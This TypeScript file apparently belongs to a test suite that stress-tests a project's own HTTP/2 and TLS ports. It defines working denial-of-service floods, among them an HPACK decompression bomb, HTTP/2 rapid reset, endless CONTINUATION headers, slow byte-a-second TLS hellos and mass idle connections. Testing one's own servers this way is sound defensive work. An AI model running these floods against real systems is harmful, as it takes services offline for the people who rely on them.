/** What floods there are. Each is a program of the attacker's own: it knows a port, and perhaps has somebody's certificate. */
import { Buffer } from "node:buffer";
import {
  encodeFrame,
  Flag,
  frameHeader,
  FrameType,
  numberFrame,
  PREFACE,
  Setting,
  settingsFrame,
} from "../../../proto/transport/http2/frames.ts";
import { Http2Wire, type Target, wholeHello, Wire } from "./wire.ts";

/** The ports there are. */
export type PortName = "orchestrator" | "agent" | "commands" | "proxy";

/** What an attacker does, from here until it is stopped. */
export interface Flood {
  /** What it wants. */
  wants: string;
  /** Where. @default all ports */
  ports?: readonly PortName[];
  /** How many do it at a time: connections, each made again when it ends. */
  connections: number;
  /** What each does with its connection. Returns or rejects when that has ended. */
  attack(target: Target): Promise<void>;
}

const NOTHING = new Uint8Array(0);
/** A frame at a time would be the attacker's own limit. */
const WRITE_BYTES = 256 << 10;

/** One piece, again and again, to the size of a write. */
function repeated(piece: Uint8Array): Buffer {
  return Buffer.concat(Array(Math.max(1, Math.floor(WRITE_BYTES / piece.length))).fill(piece));
}

/** Writes frames for as long as the peer takes them. */
async function endlessly(http2: Http2Wire, frames: Uint8Array): Promise<void> {
  while (!http2.wire.isClosed) await http2.write(frames);
}

/** An HTTP/2 connection on which frames that are good for nothing follow each other. */
function frames(make: (http2: Http2Wire) => Promise<Uint8Array> | Uint8Array): (target: Target) => Promise<void> {
  return async (target) => {
    using http2 = await Http2Wire.open(target);
    await endlessly(http2, repeated(await make(http2)));
  };
}

/** The same, with a call that is open. */
function framesInCall(make: (id: number) => Uint8Array): (target: Target) => Promise<void> {
  return frames(async (http2) => {
    const { id, frame } = http2.call();
    await http2.write(frame);
    return make(id);
  });
}

/** Bodies of `size` bytes, each short of its last byte, one after the other: `streams` of them on each connection. */
function unfinished(size: number, streams = Infinity): (target: Target) => Promise<void> {
  return async (target) => {
    using http2 = await Http2Wire.open(target);
    let left = streams;
    // Eight at a time, so that the one window of each does not hold it up.
    await Promise.all(Array.from({ length: 8 }, async () => {
      while (left-- > 0 && !http2.wire.isClosed) await http2.unfinished(size);
    }));
    await http2.wire.closed;
  };
}

/** Bytes that are sent one by one, each a second after the other. */
async function slowly(wire: Wire, bytes: Uint8Array): Promise<void> {
  for (let at = 0; at < bytes.length && !wire.isClosed; at++) {
    await wire.write(bytes.subarray(at, at + 1));
    await Promise.race([wire.closed, new Promise((resolve) => setTimeout(resolve, 1_000))]);
  }
}

/** The beginning of a ClientHello: a record of 512 bytes, of which there are 100. */
const HALF_HELLO = Buffer.concat([Buffer.from("1603010200010001fc0303", "hex"), Buffer.alloc(100, 7)]);

/** An HPACK block that puts a header of 4 kB into the table; the next one can name it by one byte. */
const TABLE_ENTRY = Buffer.concat([
  Buffer.from([0x40, 1, 0x78]), // a literal, to be kept, whose name has one byte: "x"
  Buffer.from([0x7f, ...varint(4000 - 127)]),
  Buffer.alloc(4000, 0x61),
]);
/** The newest entry of the table, 12,000 times: 48 MB in 12 kB. */
const BOMB = Buffer.alloc(12_000, 0x80 | 62);

function varint(value: number): number[] {
  const bytes = [];
  for (; value >= 128; value = Math.floor(value / 128)) bytes.push((value % 128) | 128);
  return [...bytes, value];
}

async function bombs(target: Target): Promise<void> {
  using http2 = await Http2Wire.open(target);
  const block = http2.block();
  await http2.write(http2.call(Buffer.concat([block, TABLE_ENTRY])).frame);
  const bomb = Buffer.concat([block, BOMB]);
  while (!http2.wire.isClosed) await http2.write(http2.call(bomb).frame);
}

/** 50,000 streams on a connection: with nothing but headers each, and none of them ends. */
async function headersOnly(target: Target): Promise<void> {
  using http2 = await Http2Wire.open(target);
  for (let n = 0; n < 50_000 && !http2.wire.isClosed; n += 500) {
    await http2.write(Buffer.concat(Array.from({ length: 500 }, () => http2.call().frame)));
  }
  await http2.wire.closed;
}

/** Header blocks that go on and on, in frames of `size` bytes each. */
function endlessHeaders(size: number): (target: Target) => Promise<void> {
  return frames(async (http2) => {
    const { id, frame } = http2.call(http2.block(), 0);
    await http2.write(frame);
    return encodeFrame(FrameType.CONTINUATION, 0, id, literals(size));
  });
}

/** Headers that are not kept, "x" with 100 bytes each. */
function literals(size: number): Uint8Array {
  const one = Buffer.concat([Buffer.from([0, 1, 0x78, 100]), Buffer.alloc(100, 0x61)]);
  return Buffer.concat(Array(Math.floor(size / one.length)).fill(one));
}

async function rapidReset(target: Target): Promise<void> {
  using http2 = await Http2Wire.open(target);
  while (!http2.wire.isClosed) {
    const calls = Array.from({ length: 500 }, () => {
      const { id, frame } = http2.call();
      return Buffer.concat([frame, numberFrame(FrameType.RST_STREAM, id, 8)]);
    });
    await http2.write(Buffer.concat(calls));
  }
}

/** Calls that are whole, and that nobody may make: each has to be answered. */
async function refusedCalls(target: Target): Promise<void> {
  using http2 = await Http2Wire.open(target);
  while (!http2.wire.isClosed) {
    const calls = Array.from({ length: 100 }, () => {
      const { id, frame } = http2.call();
      return Buffer.concat([frame, encodeFrame(FrameType.DATA, Flag.END_STREAM, id, Buffer.alloc(5))]);
    });
    await http2.write(Buffer.concat(calls));
  }
}

/** All floods. */
export const FLOODS: readonly Flood[] = [
  { wants: "memory: bodies of 4 MB, short of a byte, on one connection", connections: 1, attack: unfinished(4 << 20) },
  { wants: "memory: bodies of 4 MB, short of a byte, on six connections", connections: 6, attack: unfinished(4 << 20) },
  { wants: "memory: 48 bodies of 64 MB, short of a byte", connections: 1, attack: unfinished(64 << 20, 48) },
  {
    wants: "memory: many connections, each with one unfinished body",
    connections: 300,
    attack: unfinished(1 << 20, 1),
  },
  { wants: "memory and time: 12 kB of HPACK that unpack to 48 MB", connections: 6, attack: bombs },
  { wants: "memory: 50,000 streams with headers only", connections: 2, attack: headersOnly },
  { wants: "memory: headers that go on and on", connections: 4, attack: endlessHeaders(16_000) },
  { wants: "time: headers that go on in frames of nothing", connections: 4, attack: endlessHeaders(0) },
  {
    wants: "memory: idle connections, as many as there can be",
    connections: 12_000,
    attack: async (target) => {
      using wire = await Wire.open(target);
      await wire.closed;
    },
  },
  {
    wants: "memory: thousands of half TLS handshakes",
    ports: ["orchestrator", "agent", "commands"],
    connections: 4_000,
    attack: async (target) => {
      using wire = await Wire.open(target);
      await wire.write(HALF_HELLO);
      await wire.closed;
    },
  },
  {
    wants: "memory: thousands of whole TLS hellos, and then nothing",
    ports: ["orchestrator", "agent", "commands"],
    connections: 4_000,
    attack: async (target) => {
      using wire = await Wire.open(target);
      await wire.write(await wholeHello(target));
      await wire.closed;
    },
  },
  {
    wants: "connections: a TLS hello of a byte a second",
    ports: ["orchestrator", "agent", "commands"],
    connections: 500,
    attack: async (target) => {
      using wire = await Wire.open(target);
      await slowly(wire, Buffer.concat([HALF_HELLO, Buffer.alloc(409)]));
      await wire.closed;
    },
  },
  {
    wants: "time: TLS handshakes, one after the other",
    ports: ["orchestrator", "agent", "commands"],
    connections: 4,
    attack: async (target) => {
      using _ = await Wire.openSecure(target);
    },
  },
  {
    wants: "connections: a preface of a byte a second",
    connections: 300,
    attack: async (target) => {
      using wire = await Wire.openSecure(target);
      await slowly(wire, Buffer.concat([PREFACE, Buffer.alloc(10_000)]));
      await wire.closed;
    },
  },
  {
    wants: "connections: a preface, and then nothing",
    connections: 300,
    attack: async (target) => {
      using http2 = await Http2Wire.open(target);
      await http2.wire.closed;
    },
  },
  {
    wants: "time: empty DATA frames",
    connections: 2,
    attack: framesInCall((id) => frameHeader(0, FrameType.DATA, 0, id)),
  },
  {
    wants: "time: DATA frames that are all padding",
    connections: 2,
    attack: framesInCall((id) => encodeFrame(FrameType.DATA, Flag.PADDED, id, Buffer.of(0))),
  },
  {
    wants: "time: SETTINGS",
    connections: 2,
    attack: frames(() => settingsFrame([[Setting.INITIAL_WINDOW_SIZE, 1_000]])),
  },
  {
    wants: "time and memory: PING, each to be answered",
    connections: 2,
    attack: frames(() => encodeFrame(FrameType.PING, 0, 0, Buffer.alloc(8))),
  },
  {
    wants: "time: WINDOW_UPDATE",
    connections: 2,
    attack: framesInCall((id) => numberFrame(FrameType.WINDOW_UPDATE, id, 1)),
  },
  {
    wants: "time: PRIORITY",
    connections: 2,
    attack: frames(() => encodeFrame(FrameType.PRIORITY, 0, 1, Buffer.from([0, 0, 0, 0, 16]))),
  },
  {
    wants: "time: frames of a type that there is not",
    connections: 2,
    attack: frames(() => encodeFrame(0xee, 0, 0, NOTHING)),
  },
  {
    wants: "confusion: PUSH_PROMISE to a server",
    connections: 4,
    attack: frames(() => encodeFrame(FrameType.PUSH_PROMISE, Flag.END_HEADERS, 1, Buffer.from([0, 0, 0, 2, 0x82]))),
  },
  { wants: "time: calls that are reset at once", connections: 2, attack: rapidReset },
  { wants: "time: calls that nobody may make", connections: 2, attack: refusedCalls },
];
